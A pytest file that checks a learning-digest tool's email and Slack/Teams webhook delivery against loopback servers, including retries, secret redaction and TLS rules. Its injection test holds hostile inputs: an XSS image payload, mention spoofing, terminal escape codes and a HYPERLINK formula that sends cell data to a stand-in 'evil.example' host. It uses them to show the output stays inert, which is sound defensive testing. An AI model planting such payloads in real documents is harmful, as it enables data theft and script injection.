"""Sending the digest to real servers on loopback: an SMTP server (aiosmtpd) and an HTTP receiver
standing in for Slack's and Teams' webhooks. Nothing of the transport is mocked."""

from __future__ import annotations

import datetime as dt
import html.parser
import json
import logging
import os
import re
import socket
import subprocess
import sys
from pathlib import Path

import pytest
from typer.testing import CliRunner

from learnloop import cli, deliver, digest, load
from learnloop.filters import Filters
from learnloop.settings import DigestSettings, resolve
from learnloop.sources import files
from tests.digest_servers import free_port, parts, self_signed, smtp_server, webhook_receiver
from tests.fixtures.small import raw_tabs
from tests.test_digest import check_slack_shape, check_teams_shape, slack_texts

runner = CliRunner()
FAST = deliver.RetryPolicy(max_seconds=5, max_attempts=4, first_wait=0.01, max_wait=0.05)
SLACK_PATH = "/services/T0001/B0001/SlackSecretToken0001"
TEAMS_PATH = "/workflows/0123abcd/triggers/manual/paths/invoke?api-version=1&sig=TeamsSecretSignature0001"
DIGEST_VARIABLES = ("LEARNLOOP_SMTP_URL", "LEARNLOOP_DIGEST_TO", "LEARNLOOP_DIGEST_FROM", "LEARNLOOP_SLACK_WEBHOOK_URL",
                    "LEARNLOOP_TEAMS_WEBHOOK_URL", "LEARNLOOP_APP_URL", "LEARNLOOP_DIGEST_SENT_LOG",
                    "LEARNLOOP_DIGEST_RETRY_SECONDS", "LEARNLOOP_DIGEST_TIMEOUT", "LEARNLOOP_SHEET", "LEARNLOOP_SOURCE",
                    "LEARNLOOP_API_KEY", "LEARNLOOP_SHEETS_API_URL", "GOOGLE_APPLICATION_CREDENTIALS")


@pytest.fixture(autouse=True)
def clean_environment(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """Only what a test sets: no developer's digest targets, and a sent-log of the test's own."""
    for name in DIGEST_VARIABLES:
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("LEARNLOOP_DIGEST_SENT_LOG", str(tmp_path / "sent.json"))
    monkeypatch.setenv("LEARNLOOP_DIGEST_RETRY_SECONDS", "1")


@pytest.fixture
def small_xlsx(tmp_path: Path) -> str:
    return str(files.write_xlsx(raw_tabs(), tmp_path / "small.xlsx"))


def run(*args: str, secrets: Path | None = None):
    extra = ["--secrets", str(secrets)] if secrets else ["--secrets", "/nonexistent/secrets.toml"]
    return runner.invoke(cli.app, ["digest", *args, *extra])


def small_digest(day: str = "2026-06-30") -> digest.Digest:
    when = dt.date.fromisoformat(day)
    from tests.fixtures.small import small_workbook

    return digest.build(small_workbook(), Filters(as_of=when), app_url="https://learning.example.com")


def settings_for(tmp_path: Path, **values: object) -> DigestSettings:
    return DigestSettings(sent_log=str(tmp_path / "sent.json"), **values)  # type: ignore[arg-type]


# ------------------------------------------------------------------------------------- email ---


def test_email_arrives_as_one_multipart_message_with_a_text_and_an_html_part(tmp_path: Path) -> None:
    d = small_digest()
    with smtp_server() as (mailbox, port):
        config = settings_for(tmp_path, smtp_url=f"smtp://127.0.0.1:{port}", mail_to=("lead@example.com",
                                                                                       "team@example.com"),
                              mail_from="Learning Loop <learnloop@example.com>")
        outcomes = deliver.deliver(d, config, deliver.SentLog(config.sent_log), "all", retry=FAST)
    assert [(o.kind, o.status) for o in outcomes] == [("email", "sent")]
    (message,) = mailbox.messages
    assert mailbox.envelopes[0].rcpt_tos == ["lead@example.com", "team@example.com"]
    assert message["To"] == "lead@example.com, team@example.com"
    assert message["Subject"] == "Learning Loop: 6 things due, 1 win · week 27"
    assert message.get_content_type() == "multipart/alternative"
    text = parts(message)
    assert set(text) == {"text/plain", "text/html"}
    for item in d.items:
        what = "".join(t for _, t in item.what)
        assert what in text["text/plain"]
        assert html_text(text["text/html"]).count(what) == 1
    assert "Overdue by 121 days (due 2026-03-01): Retention post" in text["text/plain"]


def test_starttls_is_used_when_offered_and_the_login_goes_over_it(tmp_path: Path) -> None:
    server_tls, client_tls = self_signed(tmp_path)
    with smtp_server(tls=server_tls, login=("digest", "p@ss word/1")) as (mailbox, port):
        config = settings_for(tmp_path, smtp_url=f"smtp://digest:p%40ss%20word%2F1@127.0.0.1:{port}",
                              mail_to=("lead@example.com",))
        outcomes = deliver.deliver(small_digest(), config, deliver.SentLog(config.sent_log), "all", retry=FAST,
                                   ssl_context=client_tls)
    assert [o.status for o in outcomes] == ["sent"], outcomes
    assert mailbox.logins == ["digest"] and len(mailbox.messages) == 1
    assert mailbox.messages[0]["From"] == "Learning Loop <learnloop@127.0.0.1>"


def test_smtps_is_tls_from_the_first_byte(tmp_path: Path) -> None:
    from aiosmtpd.controller import Controller

    from tests.digest_servers import Mailbox

    server_tls, client_tls = self_signed(tmp_path)
    mailbox, port = Mailbox(), free_port()
    controller = Controller(mailbox, hostname="127.0.0.1", port=port, ssl_context=server_tls)
    controller.start()
    try:
        config = settings_for(tmp_path, smtp_url=f"smtps://127.0.0.1:{port}", mail_to=("lead@example.com",),
                              smtp_user=None)
        outcomes = deliver.deliver(small_digest(), config, deliver.SentLog(config.sent_log), "all", retry=FAST,
                                   ssl_context=client_tls)
    finally:
        controller.stop()
    assert [o.status for o in outcomes] == ["sent"] and len(mailbox.messages) == 1


def test_a_certificate_that_is_not_trusted_fails_and_sends_nothing(tmp_path: Path) -> None:
    server_tls, _ = self_signed(tmp_path)
    with smtp_server(tls=server_tls) as (mailbox, port):
        config = settings_for(tmp_path, smtp_url=f"smtp://127.0.0.1:{port}", mail_to=("lead@example.com",))
        (outcome,) = deliver.deliver(small_digest(), config, deliver.SentLog(config.sent_log), "all", retry=FAST)
    assert outcome.status == "failed" and "TLS" in outcome.detail and outcome.attempts == 1
    assert mailbox.messages == []


def _lan_address() -> str | None:
    """An address of this machine that is not loopback (None when it has none)."""
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
            probe.connect(("192.0.2.1", 9))  # TEST-NET: nothing is sent, the route picks the interface
            address = probe.getsockname()[0]
    except OSError:
        return None
    return None if address.startswith("127.") else address


def test_the_password_is_never_sent_unencrypted_to_another_machine(tmp_path: Path) -> None:
    address = _lan_address()
    if address is None:
        pytest.skip("this machine has no non-loopback address to reach a server without TLS")
    with smtp_server(hostname=address) as (mailbox, port):
        config = settings_for(tmp_path, smtp_url=f"smtp://digest:TopSecretPw9@{address}:{port}",
                              mail_to=("lead@example.com",))
        (outcome,) = deliver.deliver(small_digest(), config, deliver.SentLog(config.sent_log), "all", retry=FAST)
    assert outcome.status == "failed" and "STARTTLS" in outcome.detail and outcome.attempts == 1
    assert "TopSecretPw9" not in outcome.detail and mailbox.messages == []


def test_an_smtp_server_that_says_try_later_is_tried_again(tmp_path: Path) -> None:
    with smtp_server() as (mailbox, port):
        mailbox.replies.append("451 4.3.0 Mailbox busy, try again later")
        config = settings_for(tmp_path, smtp_url=f"smtp://127.0.0.1:{port}", mail_to=("lead@example.com",))
        (outcome,) = deliver.deliver(small_digest(), config, deliver.SentLog(config.sent_log), "all", retry=FAST)
    assert (outcome.status, outcome.attempts) == ("sent", 2)
    assert len(mailbox.messages) == 1


# ---------------------------------------------------------------------------------- webhooks ---


def test_slack_and_teams_receive_their_documented_payloads(tmp_path: Path) -> None:
    d = small_digest()
    with webhook_receiver() as (receiver, base):
        config = settings_for(tmp_path, slack_webhook_url=base + SLACK_PATH, teams_webhook_url=base + TEAMS_PATH)
        outcomes = deliver.deliver(d, config, deliver.SentLog(config.sent_log), "all", retry=FAST)
    assert [(o.kind, o.status) for o in outcomes] == [("slack", "sent"), ("teams", "sent")]
    (slack,), (teams,) = receiver.at(SLACK_PATH), receiver.at(TEAMS_PATH)
    for request in (slack, teams):
        assert request.headers["Content-Type"].startswith("application/json")
    check_slack_shape(slack.json)
    check_teams_shape(teams.json)
    texts = "\n".join(slack_texts(slack.json))
    card = json.dumps(teams.json, ensure_ascii=False)
    for item in d.items:
        assert f"<{item.link}|{item.link_label}>" in texts
        assert f"[{item.link_label}]({item.link})" in card
    assert all(block["text"].get("verbatim") is True for block in slack.json["blocks"] if block["type"] == "section")


def test_a_webhook_answering_500_then_200_is_retried(tmp_path: Path) -> None:
    with webhook_receiver() as (receiver, base):
        receiver.answer(SLACK_PATH, 500)
        receiver.answer(TEAMS_PATH, (429, "slow down", {"Retry-After": "0"}), 503)
        config = settings_for(tmp_path, slack_webhook_url=base + SLACK_PATH, teams_webhook_url=base + TEAMS_PATH)
        outcomes = deliver.deliver(small_digest(), config, deliver.SentLog(config.sent_log), "all", retry=FAST)
    assert [(o.status, o.attempts) for o in outcomes] == [("sent", 2), ("sent", 3)]
    assert len(receiver.at(SLACK_PATH)) == 2 and len(receiver.at(TEAMS_PATH)) == 3
    assert receiver.at(SLACK_PATH)[0].body == receiver.at(SLACK_PATH)[1].body, "the same message again"


def test_a_refused_webhook_is_not_retried_and_says_why(tmp_path: Path) -> None:
    with webhook_receiver() as (receiver, base):
        receiver.answer(SLACK_PATH, (404, "no_service", {}))
        config = settings_for(tmp_path, slack_webhook_url=base + SLACK_PATH)
        (outcome,) = deliver.deliver(small_digest(), config, deliver.SentLog(config.sent_log), "all", retry=FAST)
    assert (outcome.status, outcome.attempts, outcome.detail) == ("failed", 1, "HTTP 404: no_service")
    assert len(receiver.at(SLACK_PATH)) == 1
    assert deliver.SentLog(config.sent_log).entries() == [], "a failed target is tried again next run"


# --------------------------------------------------------------------------- the command line ---


def test_one_failing_target_never_stops_the_others_and_the_exit_status_says_which(
        small_xlsx: str, monkeypatch: pytest.MonkeyPatch) -> None:
    with smtp_server() as (mailbox, port), webhook_receiver() as (receiver, base):
        receiver.answer(SLACK_PATH, *[(410, "gone", {})] * 3)
        monkeypatch.setenv("LEARNLOOP_SMTP_URL", f"smtp://127.0.0.1:{port}")
        monkeypatch.setenv("LEARNLOOP_DIGEST_TO", "lead@example.com")
        monkeypatch.setenv("LEARNLOOP_SLACK_WEBHOOK_URL", base + SLACK_PATH)
        monkeypatch.setenv("LEARNLOOP_TEAMS_WEBHOOK_URL", base + TEAMS_PATH)
        result = run(small_xlsx, "--as-of", "2026-06-30", "--send")
        assert result.exit_code == 10, result.output  # 8 + Slack
        assert "Slack webhook: FAILED (HTTP 410: gone)" in result.stdout
        assert "email to lead@example.com: sent" in result.stdout and "Teams webhook: sent" in result.stdout
        assert len(mailbox.messages) == 1 and len(receiver.at(TEAMS_PATH)) == 1

        # Next run the same week: Slack is tried again, the others are not sent twice.
        receiver.script.clear()
        again = run(small_xlsx, "--as-of", "2026-06-30", "--send", "--format", "json")
        assert again.exit_code == 0, again.output
        report = json.loads(again.stdout)
        assert [(d["kind"], d["status"]) for d in report["deliveries"]] == [
            ("email", "skipped"), ("slack", "sent"), ("teams", "skipped")]
        assert len(mailbox.messages) == 1 and len(receiver.at(SLACK_PATH)) == 2

    # Both servers gone: email cannot connect, Teams cannot either.
    monkeypatch.setenv("LEARNLOOP_DIGEST_RETRY_SECONDS", "0.5")
    broken = run(small_xlsx, "--as-of", "2026-07-08", "--send")
    assert broken.exit_code == 8 + 1 + 2 + 4, broken.output
    assert broken.stdout.count("FAILED") == 3


def test_a_second_send_in_the_same_week_sends_nothing_and_a_changed_one_is_an_update(
        small_xlsx: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with smtp_server() as (mailbox, port), webhook_receiver() as (receiver, base):
        monkeypatch.setenv("LEARNLOOP_SMTP_URL", f"smtp://127.0.0.1:{port}")
        monkeypatch.setenv("LEARNLOOP_DIGEST_TO", "lead@example.com")
        monkeypatch.setenv("LEARNLOOP_SLACK_WEBHOOK_URL", base + SLACK_PATH)
        first = run(small_xlsx, "--as-of", "2026-07-13", "--send")
        assert first.exit_code == 0 and first.stdout.count(": sent") == 2, first.output
        second = run(small_xlsx, "--as-of", "2026-07-14", "--send")  # Tuesday of the same ISO week
        assert second.exit_code == 0, second.output
        assert second.stdout.count("nothing sent (already sent for 2026-W29)") == 2
        assert len(mailbox.messages) == 1 and len(receiver.at(SLACK_PATH)) == 1

        # The sheet changes the same week: K-3 is now overdue. The digest goes again, as an update.
        tabs = raw_tabs()
        tabs["commitments"][3][tabs["commitments"][0].index("due_on")] = "2026-07-01"
        files.write_xlsx(tabs, Path(small_xlsx))
        changed = run(small_xlsx, "--as-of", "2026-07-14", "--send")
        assert changed.exit_code == 0, changed.output
        assert changed.stdout.count("sent as an update (since this week's first: 1 new, 0 no longer in it)") == 2
        assert mailbox.messages[-1]["Subject"].startswith("Update: Learning Loop")
        assert receiver.at(SLACK_PATH)[-1].json["blocks"][0]["text"]["text"].startswith("Update: ")

        # The next week is a new digest; its wins count from the last one (as of 07-14): D-4 on 07-20.
        next_week = run(small_xlsx, "--as-of", "2026-07-20", "--send", "--format", "json")
        assert [d["status"] for d in json.loads(next_week.stdout)["deliveries"]] == ["sent", "sent"]
        assert "Wins since 14 July (1)" in receiver.at(SLACK_PATH)[-1].body.decode()


def test_nothing_due_and_nothing_new_sends_nothing_unless_always(small_xlsx: str,
                                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    with webhook_receiver() as (receiver, base):
        monkeypatch.setenv("LEARNLOOP_SLACK_WEBHOOK_URL", base + SLACK_PATH)
        quiet = run(small_xlsx, "--as-of", "2026-06-30", "--person", "Nobody", "--send")
        assert quiet.exit_code == 0 and "nothing sent" in quiet.stdout and receiver.requests == []
        as_json = run(small_xlsx, "--as-of", "2026-06-30", "--person", "Nobody", "--send", "--format", "json")
        assert json.loads(as_json.stdout)["deliveries"] == [] and receiver.requests == []
        always = run(small_xlsx, "--as-of", "2026-06-30", "--person", "Nobody", "--send", "--always")
        assert always.exit_code == 0 and len(receiver.requests) == 1
        assert digest.NOTHING in receiver.requests[0].body.decode()


def test_nowhere_to_send_is_a_clear_error(small_xlsx: str) -> None:
    result = run(small_xlsx, "--send")
    assert result.exit_code == 2 and "nowhere to send" in result.stderr


def test_per_person_sends_each_their_own_items_and_lists_who_has_no_address(small_xlsx: str, tmp_path: Path,
                                                                           monkeypatch: pytest.MonkeyPatch) -> None:
    secrets = tmp_path / "secrets.toml"
    with smtp_server() as (mailbox, port):
        secrets.write_text(f'[learnloop.digest]\nsmtp_url = "smtp://127.0.0.1:{port}"\nfrom = "ll@example.com"\n'
                           '[learnloop.people]\nDee = "dee@example.com"\n"ana " = "ana@example.com"\n', encoding="utf-8")
        result = run(small_xlsx, "--as-of", "2026-06-30", "--send", "--per-person", secrets=secrets)
    assert result.exit_code == 0, result.output
    assert "nothing sent to: Ben, Eli" in result.stdout
    got = {message["To"]: parts(message)["text/plain"] for message in mailbox.messages}
    assert set(got) == {"ana@example.com", "dee@example.com"}
    assert "Retention post" in got["dee@example.com"] and "Beta blog" in got["dee@example.com"]
    assert "Pricing book" in got["ana@example.com"]
    assert "Retention post" not in got["ana@example.com"] and "Pricing book" not in got["dee@example.com"]
    assert all(message["Subject"].startswith(("Learning Loop for Ana:", "Learning Loop for Dee:"))
               for message in mailbox.messages)


def test_done_when_the_demo_digest_is_delivered_once_a_week(tmp_path: Path) -> None:
    """`learnloop digest demo --as-of 2026-11-20 --send` with a local SMTP server and a webhook receiver
    delivers a digest a team lead would forward; a second run that week sends nothing."""
    script = Path(sys.executable).with_name("learnloop")
    command = [str(script)] if script.exists() else [sys.executable, "-c", "from learnloop.cli import main; main()"]
    with smtp_server() as (mailbox, port), webhook_receiver() as (receiver, base):
        env = {key: value for key, value in os.environ.items() if key not in DIGEST_VARIABLES}
        env.update(LEARNLOOP_SMTP_URL=f"smtp://127.0.0.1:{port}", LEARNLOOP_DIGEST_TO="lead@example.com",
                   LEARNLOOP_DIGEST_FROM="Learning Loop <learnloop@example.com>",
                   LEARNLOOP_SLACK_WEBHOOK_URL=base + SLACK_PATH, LEARNLOOP_TEAMS_WEBHOOK_URL=base + TEAMS_PATH,
                   LEARNLOOP_APP_URL="https://learning.example.com", LEARNLOOP_DIGEST_SENT_LOG=str(tmp_path / "s.json"),
                   PYTHONPATH=str(Path(__file__).resolve().parents[1]))
        args = [*command, "digest", "demo", "--as-of", "2026-11-20", "--send", "--secrets", str(tmp_path / "none")]
        first = subprocess.run(args, env=env, capture_output=True, text=True, timeout=120, cwd=tmp_path)
        assert first.returncode == 0, first.stderr
        assert first.stdout.splitlines()[0] == "Learning Loop digest, week 47 (16–22 November 2026): 9 things due, 2 wins."
        second = subprocess.run(args, env=env, capture_output=True, text=True, timeout=120, cwd=tmp_path)
        assert second.returncode == 0, second.stderr
        assert second.stdout.count("nothing sent (already sent for 2026-W47)") == 3
    (message,) = mailbox.messages
    assert message["To"] == "lead@example.com"
    assert message["Subject"] == "Learning Loop: 9 things due, 2 wins · week 47"
    text = parts(message)
    for body in (text["text/plain"], html_text(text["text/html"])):
        assert "Quiet for 487 days: Product Tank Hamburg meetup" in body
        assert "For Hannah Kim (Growth)" in body
        assert "Decision written up on 2026-11-20 (decision)" in body
    assert "https://learning.example.com/learning_network?team=Growth" in text["text/plain"]
    assert len(receiver.at(SLACK_PATH)) == 1 and len(receiver.at(TEAMS_PATH)) == 1
    check_slack_shape(receiver.at(SLACK_PATH)[0].json)
    check_teams_shape(receiver.at(TEAMS_PATH)[0].json)


# --------------------------------------------------------------------------------- injection ---

EVIL = "https://evil.example/steal"
INJECTION = (f"<img src=x onerror=alert(1)> <b>bold</b> *bold* _it_ ~gone~ `code` <!channel> <!here> @channel "
             f"<{EVIL}|click> [x]({EVIL}) {EVIL} www.evil.example \x1b]8;;{EVIL}\x07link\x1b]8;;\x07 \x1b[2J")
FORMULA = f'=HYPERLINK("{EVIL}?c="&A1,"Open")'


class Tags(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.hrefs: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.hrefs += [value or "" for name, value in attrs if name in ("href", "src")]

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def html_text(page: str) -> str:
    tags = Tags()
    tags.feed(page)
    return " ".join("".join(tags.text).split())


def injection_workbook(path: Path) -> str:
    """The small workbook as a CSV folder (a spreadsheet file could not even hold the control codes)."""
    tabs = raw_tabs()
    commitments, sources, critiques = tabs["commitments"], tabs["sources"], tabs["critiques"]
    k4 = next(row for row in commitments[1:] if row[0] == "K-4")
    k4[commitments[0].index("title")] = INJECTION
    k4[commitments[0].index("owner")] = "Dee <!here> @channel *boss*"
    k4[commitments[0].index("team")] = "<b>Beta</b> <!subteam^S123>"
    next(row for row in sources[1:] if row[0] == "S-7")[sources[0].index("name")] = FORMULA
    next(row for row in critiques[1:] if row[0] == "C-10")[critiques[0].index("artifact")] = INJECTION
    return str(files.write_csv_folder(tabs, path))


def test_an_injection_workbook_produces_inert_messages(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    source = injection_workbook(tmp_path / "injection")
    with smtp_server() as (mailbox, port), webhook_receiver() as (receiver, base):
        monkeypatch.setenv("LEARNLOOP_SMTP_URL", f"smtp://127.0.0.1:{port}")
        monkeypatch.setenv("LEARNLOOP_DIGEST_TO", "lead@example.com")
        monkeypatch.setenv("LEARNLOOP_SLACK_WEBHOOK_URL", base + SLACK_PATH)
        monkeypatch.setenv("LEARNLOOP_TEAMS_WEBHOOK_URL", base + TEAMS_PATH)
        monkeypatch.setenv("LEARNLOOP_APP_URL", "https://learning.example.com")
        result = run(source, "--as-of", "2026-06-30", "--send")
        printed = run(source, "--as-of", "2026-06-30")
    assert result.exit_code == 0, result.output
    wb = load.workbook(source)
    own_links = {item.link for item in digest.build(wb, Filters(as_of=dt.date(2026, 6, 30)),
                                                    app_url="https://learning.example.com").items}

    # Slack: no mention, no link but the items' own, no formatting from the sheet, valid blocks.
    slack = receiver.at(SLACK_PATH)[0].json
    check_slack_shape(slack)
    texts = [*slack_texts(slack), slack["text"]]
    for text in texts:
        assert not re.search(r"<[!@#]", text), text
        for link in re.findall(r"<([^>]*)>", text):
            assert link.split("|")[0] in own_links, link
        assert "@channel" not in text and "*bold*" not in text and "_it_" not in text and "`code`" not in text
        assert EVIL not in text and "www.evil" not in text and "\x1b" not in text
    joined = "\n".join(texts)
    assert "&lt;img src=x onerror=alert(1)&gt;" in joined, "the text is there, as text"
    assert "=HYPERLINK(" in joined

    # Teams: sheet text only in TextRuns (never read as Markdown); the Markdown links are the items' own.
    teams = receiver.at(TEAMS_PATH)[0].json
    check_teams_shape(teams)
    markdown_read = [element["text"] for element in walk(teams) if element.get("type") == "TextBlock"]
    for text in markdown_read:
        assert "evil" not in text and "onerror" not in text and "channel" not in text, text
        assert all(link in own_links for link in re.findall(r"\]\(([^)]*)\)", text)), text
    runs = " ".join(element["text"] for element in walk(teams) if element.get("type") == "TextRun")
    assert "<img src=x onerror=alert(1)>" in runs and EVIL not in runs and "\x1b" not in runs

    # Email: the HTML has our tags only, and no link but the items' own.
    (message,) = mailbox.messages
    text = parts(message)
    tags = Tags()
    tags.feed(text["text/html"])
    assert tags.tags <= {"html", "head", "meta", "title", "body", "h1", "h2", "p", "ol", "li", "strong", "br", "span",
                         "a"}, tags.tags
    assert set(tags.hrefs) <= own_links and tags.hrefs
    assert "&lt;img src=x onerror=alert(1)&gt;" in text["text/html"]
    assert "\x1b" not in text["text/plain"] and "\x1b" not in message["Subject"]

    # The terminal: no control code.
    assert printed.exit_code == 0 and "\x1b" not in printed.stdout and "\x07" not in printed.stdout
    assert "<img src=x onerror=alert(1)>" in printed.stdout


def walk(value: object):
    if isinstance(value, dict):
        yield value
        for item in value.values():
            yield from walk(item)
    elif isinstance(value, list):
        for item in value:
            yield from walk(item)


# ------------------------------------------------------------------------------------ secrets ---


@pytest.mark.filterwarnings("ignore:Requiring AUTH while not requiring TLS:UserWarning")  # the point of the test
def test_secrets_never_appear_in_output_logs_or_errors(small_xlsx: str, tmp_path: Path,
                                                       monkeypatch: pytest.MonkeyPatch,
                                                       caplog: pytest.LogCaptureFixture) -> None:
    password = "Sm7pPassw0rdSecret"
    closed = free_port()
    caplog.set_level(logging.DEBUG)
    with smtp_server(login=("digest", "another-password")) as (mailbox, port), \
            webhook_receiver() as (receiver, base):
        receiver.answer(SLACK_PATH, *[(500, "boom", {})] * 10)
        secrets = tmp_path / "secrets.toml"
        secrets.write_text(
            f'[learnloop.digest]\nsmtp_url = "smtp://digest@127.0.0.1:{port}"\nsmtp_password = "{password}"\n'
            f'to = ["lead@example.com"]\nslack_webhook_url = "{base}{SLACK_PATH}"\n'
            f'teams_webhook_url = "http://127.0.0.1:{closed}{TEAMS_PATH}"\n', encoding="utf-8")
        result = run(small_xlsx, "--as-of", "2026-06-30", "--send", secrets=secrets)
        as_json = run(small_xlsx, "--as-of", "2026-06-30", "--send", "--format", "json", secrets=secrets)
    assert result.exit_code == 8 + 1 + 2 + 4, result.output
    assert "refused the login (SMTP 535)" in result.stdout
    assert "HTTP 500: boom after" in result.stdout and "could not connect" in result.stdout
    logged = caplog.text
    assert "[redacted]" in logged, "the HTTP library's debug lines were there, and redacted"
    sent_log = Path(os.environ["LEARNLOOP_DIGEST_SENT_LOG"])
    shown = result.output + as_json.output + logged + (sent_log.read_text() if sent_log.exists() else "")
    config = resolve({"learnloop": {"digest": {"slack_webhook_url": base + SLACK_PATH,
                                               "teams_webhook_url": f"http://127.0.0.1:{closed}{TEAMS_PATH}",
                                               "smtp_password": password}}}, {})
    assert repr(config).count("Secret") == 0
    for secret in (password, "SlackSecretToken0001", "TeamsSecretSignature0001", SLACK_PATH):
        assert secret not in shown
    assert mailbox.messages == []


def test_a_webhook_url_over_plain_http_to_another_host_is_refused_by_name(small_xlsx: str,
                                                                           monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("LEARNLOOP_SLACK_WEBHOOK_URL", "http://hooks.example.com/services/T/B/Token123")
    result = run(small_xlsx, "--send")
    assert result.exit_code == 2 and "slack_webhook_url" in result.stderr and "https://" in result.stderr
    assert "Token123" not in result.output
    problem = resolve({"learnloop": {"digest": {"smtp_url": "https://user:pw1234@mail.example.com"}}}, {}).digest.problem
    assert problem and "smtp://" in problem and "pw1234" not in problem
